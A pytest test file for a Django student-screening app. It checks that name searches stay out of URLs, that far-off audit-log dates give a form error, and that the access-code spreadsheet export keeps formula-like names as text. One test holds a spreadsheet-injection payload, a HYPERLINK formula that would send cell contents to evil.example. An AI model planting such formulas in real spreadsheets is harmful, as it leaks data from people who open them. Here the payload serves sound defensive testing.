"""Pages under odd input: a searched name never reaches a URL, far-off audit dates are a form error
(not a 500), and a name that looks like a formula stays text in the printed access-code sheet."""

from __future__ import annotations

import io
import re
import zipfile
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from screening.core.models import AuditEvent
from screening.directory.models import Student
from tests.conftest import Cast, make_student
from tests.web.test_pages import sign_in

pytestmark = pytest.mark.django_db

STUDENTS = reverse("web:students")
AUDIT = reverse("web:audit-log")


class Forms(HTMLParser):
    """Each form of a page: its attributes and the names of its fields."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[dict[str, Any]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "form":
            self.forms.append({"attrs": dict(attrs), "fields": set()})
        elif tag in ("input", "select", "button", "textarea") and self.forms:
            name = dict(attrs).get("name")
            if name:
                self.forms[-1]["fields"].add(name)


def forms_of(html: str) -> list[dict[str, Any]]:
    parser = Forms()
    parser.feed(html)
    return parser.forms


def assert_no_url_holds(response: Any, text: str) -> None:
    """Neither a redirect, an htmx history header nor any link of the page carries ``text``."""
    for header in ("Location", "HX-Push-Url", "HX-Replace-Url", "HX-Location", "HX-Redirect"):
        assert text not in response.get(header, "") and quote(text) not in response.get(header, ""), header
    urls = re.findall(r'(?:href|action|hx-get|hx-post|hx-push-url|value)="([^"]*[/?][^"]*)"', response.content.decode())
    assert not [u for u in urls if text in u or quote(text) in u]


# --- 1. the student search is a POST ------------------------------------------------------------


def test_the_search_form_posts_and_pushes_nothing_to_the_address_bar(cast: Cast) -> None:
    html = sign_in(Client(), cast.alice).get(STUDENTS).content.decode()
    searches = [f for f in forms_of(html) if "q" in f["fields"]]
    assert len(searches) == 1
    form = searches[0]["attrs"]
    assert form["method"] == "post" and "csrfmiddlewaretoken" in searches[0]["fields"]
    assert "hx-get" not in form and "hx-push-url" not in form and form["hx-post"] == STUDENTS


def test_a_posted_search_filters_the_list_with_and_without_htmx(cast: Cast) -> None:
    client = sign_in(Client(enforce_csrf_checks=True), cast.alice)
    client.get(STUDENTS)
    token = client.cookies["csrftoken"].value
    full = client.post(STUDENTS, {"q": "韩小明", "csrfmiddlewaretoken": token})
    assert full.status_code == 200 and "<html" in full.content.decode()
    assert "韩小明" in full.content.decode() and "何小丽" not in full.content.decode()
    assert_no_url_holds(full, "韩小明")
    # htmx sends the token as a header (set on <body> in base.html)
    partial = client.post(STUDENTS, {"q": "韩小明"}, headers={"hx-request": "true", "x-csrftoken": token})
    html = partial.content.decode()
    assert partial.status_code == 200 and "<html" not in html
    assert "韩小明" in html and "何小丽" not in html
    assert_no_url_holds(partial, "韩小明")
    listed = AuditEvent.objects.filter(action="list", actor_username="alice").values_list("student_public_id", flat=True)
    assert set(listed) == {cast.hamlet.public_id, cast.hilda.public_id}  # the first GET listed both


def test_a_search_in_the_query_string_is_ignored(cast: Cast) -> None:
    html = sign_in(Client(), cast.alice).get(STUDENTS, {"q": "韩小明"}).content.decode()
    assert "何小丽" in html  # unfiltered: the page does not honour names in URLs


def test_paging_a_search_keeps_the_search_in_the_body(cast: Cast) -> None:
    for n in range(55):
        make_student(cast.ds_7_1, f"P{n:03d}", f"王同学{n:03d}", 12)
    make_student(cast.ds_7_2, "P999", "王同学999", 12)  # another class: the class filter must hold
    client = sign_in(Client(), cast.alice)
    first = client.post(STUDENTS, {"q": "王同学", "school_class": cast.ds_7_1.pk})
    html = first.content.decode()
    assert "Page 1 of 2" in html
    assert_no_url_holds(first, "王同学")
    pager = [f for f in forms_of(html) if "page" in f["fields"]]
    assert len(pager) == 1 and pager[0]["attrs"]["method"] == "post"
    assert {"q", "school_class", "page", "csrfmiddlewaretoken"} <= pager[0]["fields"]
    second = client.post(STUDENTS, {"q": "王同学", "school_class": cast.ds_7_1.pk, "page": 2})
    html = second.content.decode()
    assert "Page 2 of 2" in html and "王同学054" in html and "王同学999" not in html
    assert_no_url_holds(second, "王同学")


def test_paging_without_a_search_keeps_the_class_in_its_links(cast: Cast) -> None:
    for n in range(55):
        make_student(cast.ds_7_1, f"P{n:03d}", f"王同学{n:03d}", 12)
    client = sign_in(Client(), cast.alice)
    html = client.post(STUDENTS, {"school_class": cast.ds_7_1.pk}).content.decode()
    assert f"?school_class={cast.ds_7_1.pk}&amp;page=2" in html
    assert "Page 2 of 2" in client.get(STUDENTS, {"school_class": cast.ds_7_1.pk, "page": 2}).content.decode()


# --- 2. the audit log's dates ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params", [{"date_to": "9999-12-31"}, {"date_from": "0001-01-01"}, {"date_from": "1999-12-31", "date_to": "2101-01-01"}]
)
def test_far_off_audit_dates_are_a_field_error_not_a_500(cast: Cast, params: dict[str, str]) -> None:
    response = sign_in(Client(), cast.diana, language="zh-hans").get(AUDIT, params)
    assert response.status_code == 200
    html = response.content.decode()
    assert "请选择 2000-01-01 至 2100-12-31 之间的日期" in html
    assert response.context["form"].errors


def test_audit_dates_at_the_edges_of_the_range_filter(cast: Cast) -> None:
    sign_in(Client(), cast.alice).get(reverse("web:student", args=[cast.hamlet.public_id]))
    admin = sign_in(Client(), cast.diana)
    response = admin.get(AUDIT, {"date_from": "2000-01-01", "date_to": "2100-12-31", "actor": "alice"})
    assert response.status_code == 200 and not response.context["form"].errors
    assert "1 entry" in response.content.decode()
    assert "until=2101-01-01T00%3A00%3A00" in response.context["export_url"]
    assert "0 entries" in admin.get(AUDIT, {"date_to": "2000-01-01", "actor": "alice"}).content.decode()


# --- 4. no formulas in the access-code sheet -----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A4,"点此")'


def test_a_name_that_looks_like_a_formula_stays_text_in_the_sheet(cast: Cast) -> None:
    Student.objects.filter(pk=cast.hamlet.pk).update(name=FORMULA)
    make_student(cast.ds_7_1, "D0009", "http://evil.example/", 12)
    make_student(cast.ds_7_1, "00123", "+1-2", 12)
    response = sign_in(Client(), cast.diana).post(reverse("web:class-access-sheet", args=[cast.ds_7_1.pk]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml and "<hyperlink" not in sheet_xml
    cells = {c.value: c for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows() for c in row}
    for text in (FORMULA, "http://evil.example/", "00123", "+1-2"):
        assert text in cells, text
        assert cells[text].data_type == "s"
